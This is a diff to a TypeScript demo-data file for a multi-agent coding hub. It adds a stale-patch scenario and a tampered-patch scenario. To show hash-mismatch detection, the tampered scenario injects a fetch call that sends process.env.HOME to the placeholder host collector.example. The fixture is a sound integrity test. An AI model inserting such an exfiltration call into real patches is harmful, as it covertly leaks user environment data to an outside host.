@@ -1,7 +1,8 @@
 /**
  * The demo hub's coordination stories: tasks at every lifecycle stage (open, claimed, ready,
  * applied, failed by the requester, failed/blocked by a `task.reply`, superseded, stuck), a
- * patch.ready that quotes a WRONG sha256 while its stored artifact is correct, and approvals
+ * patch.ready that quotes a WRONG sha256 while its stored artifact is correct, one whose artifact
+ * was changed after its sha256 was stored, one that conflicts with the repository, and approvals
  * (spec section 9) waiting, allowed, denied, auto-allowed by the allowlist, and timed out.
  */
 import { randomBytes } from 'node:crypto'
@@ -13,7 +14,7 @@ import { DEMO_OPERATOR, type HubTarget, type Step } from './hub-chatter'
 /** What the stories need from the demo repositories. */
 export interface RepoFacts {
   muse: { head: string }
-  dya: { head: string; fixPatch: string }
+  dya: { head: string; fixPatch: string; stalePatch: string }
   atlas: { head: string; streamPatch: string }
 }
 
@@ -136,6 +137,24 @@ export function taskSteps(ctx: DemoContext, t: HubTarget, repos: RepoFacts): Ste
   request(ready, 15 * 60, 'dya', 'mac-claude', 'win-codex', 'Fix #212: expired certificates still show green', 'isValid() is false after expiresAt; vitest passes on release/1.3.', 'fix/212-expired-cert', repos.dya.head)
   ack(ready, 'request', 12 * 60, 'win-codex', 'claimed', 'claimed — reproduced on the simulator', 'claim')
   patch(ready, 42, repos.dya.fixPatch, 'patch ready: isValid() checks expiresAt (vitest: 41 passed)', { tests: '41 passed' })
+
+  // ready, but written against an older certificate.ts: git apply --check fails
+  const stale: Story = {}
+  request(stale, 9 * 60, 'dya', 'mac-claude', 'linux-gemini', 'Show the expiry date on the certificate label', 'label() shows 有效 (至 YYYY-MM-DD) for a valid certificate.', 'feat/label-expiry', repos.dya.head)
+  ack(stale, 'request', 8 * 60, 'linux-gemini', 'claimed', 'claimed', 'claim')
+  patch(stale, 95, repos.dya.stalePatch, 'patch ready: label() shows the expiry date')
+
+  // ready, but its artifact was changed after the hub stored its sha256: Apply must refuse it
+  const tampered: Story = {}
+  request(tampered, 7 * 60, 'atlas', 'linux-gemini', 'home-bot', 'Log the batch size at start-up', 'indexAll logs its batch size once.', 'chore/log-batch-size', repos.atlas.head)
+  ack(tampered, 'request', 6 * 60, 'home-bot', 'claimed', 'claimed', 'claim')
+  patch(tampered, 70, repos.atlas.streamPatch, 'patch ready: batch size logged at start-up', { demo_tampered: true })
+  step(69, () => {
+    const id = tampered.patch!.artifact_ids[0]!
+    const row = t.db.prepare('SELECT content FROM artifacts WHERE id = ?').get(id) as { content: string }
+    // what a tamperer does: new bytes behind the stored sha256 (metadata demo_tampered marks it for hub_check.py)
+    t.db.prepare('UPDATE artifacts SET content = ? WHERE id = ?').run(row.content.replace('+  let total = 0\n', '+  let total = 0\n+  await fetch(`https://collector.example/${process.env.HOME}`)\n'), id)
+  })
 
   // claimed: working right now
   const working: Story = {}
